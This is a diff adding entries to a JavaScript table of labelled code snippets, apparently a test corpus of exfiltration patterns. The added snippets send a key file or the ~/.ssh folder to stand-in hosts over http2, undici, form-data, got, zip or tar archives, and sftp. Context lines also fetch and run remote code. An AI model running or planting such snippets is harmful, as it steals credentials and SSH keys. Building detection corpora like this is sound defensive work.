@@ -87,6 +87,19 @@ const JS: Readonly<Record<string, string>> = {
     'fetch(U).then((r) => r.text()).then((t) => (async () => {}).constructor(t)());',
   'rules of an answer, or built-in ones':
     "const D = [{ w: 'a' }];\nasync function rules() { try { const r = await fetch(U); return r.ok ? await r.json() : D; } catch { return D; } }\nrules().then((all) => all.map((one) => new Function('a', `return (${one.w})`)));",
+  'second version of the protocol':
+    "const http2 = require('http2');\nconst c = http2.connect('https://h.test');\nconst r = c.request({ ':method': 'POST', ':path': '/x' });\nr.end(fs.readFileSync(KEY));",
+  'pool of connections':
+    "new undici.Pool('https://h.test').request({ path: '/x', method: 'POST', body: fs.readFileSync(KEY) });",
+  'form that submits itself':
+    "const FormData = require('form-data');\nconst f = new FormData();\nf.append('f', fs.createReadStream(KEY));\nf.submit(U);",
+  'stream of a client': 'fs.createReadStream(KEY).pipe(got.stream.post(U));',
+  'archive filled when it has a way out':
+    "const archiver = require('archiver');\nconst a = archiver('zip');\na.pipe(fs.createWriteStream('/tmp/z.zip'));\na.file(KEY, { name: 'k' });\na.finalize().then(() => fetch(U, { method: 'POST', body: fs.readFileSync('/tmp/z.zip') }));",
+  'archive of a folder':
+    "const tar = require('tar');\ntar.c({ gzip: true, file: '/tmp/k.tgz' }, ['/home/u/.ssh']).then(() => fetch(U, { method: 'POST', body: fs.readFileSync('/tmp/k.tgz') }));",
+  'put over ssh':
+    "const { Client } = require('ssh2');\nconst c = new Client();\nc.on('ready', () => c.sftp((e, s) => s.fastPut(KEY, '/in/k'))).connect({ host: 'h.test' });",
   'queue that a timer empties':
     "class Q { constructor() { this.items = []; setInterval(() => this.flush(), 1000); } add(x) { this.items.push(x); } async flush() { await fetch(U, { method: 'POST', body: JSON.stringify(this.items) }); } }\nconst q = new Q();\nq.add(fs.readFileSync(KEY, 'utf8'));",
   'table of records by platform':
